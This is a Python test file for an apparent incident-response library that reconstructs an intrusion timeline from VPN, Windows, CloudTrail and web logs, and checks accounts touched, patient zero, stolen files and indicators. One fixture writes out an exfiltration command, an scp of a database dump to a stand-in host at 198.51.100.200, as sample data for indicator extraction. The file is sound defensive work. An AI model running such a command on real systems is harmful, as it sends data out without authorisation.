"""The story goes by what actions mean, whatever kind of log tells them."""

from datetime import UTC, date, datetime

from stanch.cause import sigma
from stanch.cause.account import Doings, chapters, follow, indicators, touched, window
from stanch.cause.actor import Actor
from stanch.cause.baseline import Unusual
from stanch.cause.detect import unusual
from stanch.cause.event import Event
from stanch.cause.timeline import of_texts

AS_OF = date(2026, 6, 1)
VPN = (
    'date=2026-03-04 time=05:06:07 devname="FG60" devid="FGT60" logid="0101039424" type="event" tz="+0000" action="tunnel-up" remip=203.0.113.9 user="Ann"\n'
    'date=2026-03-04 time=05:01:07 devname="FG60" devid="FGT60" logid="0101039426" type="event" tz="+0000" action="ssl-login-fail" remip=203.0.113.9 user="bob"\n'
)
WINDOWS = (
    '{"EventID":4624,"Channel":"Security","Provider_Name":"Microsoft-Windows-Security-Auditing","Computer":"FILE1","SystemTime":"2026-03-04T05:20:00Z",'
    '"EventRecordID":7,"TargetUserName":"Ann","IpAddress":"203.0.113.9","LogonType":10}\n'
)
CLOUD = (
    '{"Records":[{"userIdentity":{"userName":"backup"},"eventTime":"2026-03-04T06:16:07Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","userAgent":'
    '"rclone/1","sourceIPAddress":"203.0.113.9","requestParameters":{"bucketName":"b","key":"db.sql"},"additionalEventData":{"bytesTransferredOut":4096},"eventID":"e2"},'
    '{"userIdentity":{"userName":"cron"},"eventTime":"2026-03-04T06:17:07Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"198.51.100.7",'
    '"requestParameters":{"key":"other.sql"},"eventID":"e3"}]}'
)
WEB = '203.0.113.9 - - [01/Mar/2026:05:06:07 +0000] "GET / HTTP/1.1" 200 512 "-" "curl/8.0"\n'


def followed():
    actor = Actor(addresses={"203.0.113.9"}, entered=datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC))
    texts = [("vpn.log", VPN), ("Security.evtx", WINDOWS), ("trail.json", CLOUD), ("access.log", WEB)]
    return actor, follow(of_texts(texts, AS_OF), actor)


def test_accounts_hosts_and_patient_zero_over_four_kinds():
    actor, doings = followed()
    told = touched(actor, doings)
    assert told.accounts == ("ann", "backup")
    assert told.hosts == ("FG60", "file1")
    assert told.addresses == ("203.0.113.9",)
    assert told.patient_zero == "the account ann on FG60, from 203.0.113.9 on 2026-03-04 at 05:06 UTC (vpn.log:1)"


def test_what_was_taken_and_how_much():
    _, doings = followed()
    assert list(doings.taken) == ["db.sql"]
    assert doings.sent == 4096


def test_the_window_ends_with_the_last_success_and_leaves_out_a_visit_before():
    actor, doings = followed()
    found = window(actor, doings)
    assert (found.first, found.last) == (datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC), datetime(2026, 3, 4, 6, 16, 7, tzinfo=UTC))


def test_the_first_sign_in_is_a_chapter_and_tools_are_indicators():
    actor, doings = followed()
    assert [chapter.text for chapter in chapters(actor, doings)] == [
        "203.0.113.9 signed in as ann.",
        "A file was taken (AWS CloudTrail): db.sql.",
    ]
    assert ("user_agent", "rclone/1") in {(one.type, one.value) for one in indicators(actor, doings)}


AT = datetime(2026, 3, 4, 5, 6, tzinfo=UTC)
FILLED = {"ip": "203.0.113.9", "user": "ann", "host": "web1", "target": "a.csv"}


def test_no_story_of_a_rule_is_left_with_a_gap_in_it():
    rules = sigma.own_rules()
    for rule in (*rules.all(), *rules.correlations):
        for full in (False, True):
            hit = unusual(Unusual(rule.id, rule.title, (), (), rule.story, (Event(AT, "x", "a.log", 1, {}, **(FILLED if full else {})),)))
            (told,) = chapters(Actor(hits=[hit], entered=AT), Doings())
            assert "{" not in told.text, rule.file


def test_where_things_were_sent_is_an_indicator_and_an_address_inside_is_none():
    said = "COMMAND=/usr/bin/scp /tmp/c.sql drop@198.51.100.200:/in/ 10.0.0.7"
    event = Event(AT, "sshd", "a.log", 1, {"command": said}, user="ann", host="db1")
    hit = unusual(Unusual("x", "x", ("exfiltration",), (), "x", (event,)))
    found = [one.value for one in indicators(Actor(hits=[hit], entered=AT, accounts={"ann"}), Doings()) if one.type == "ip"]
    assert found == ["198.51.100.200"]
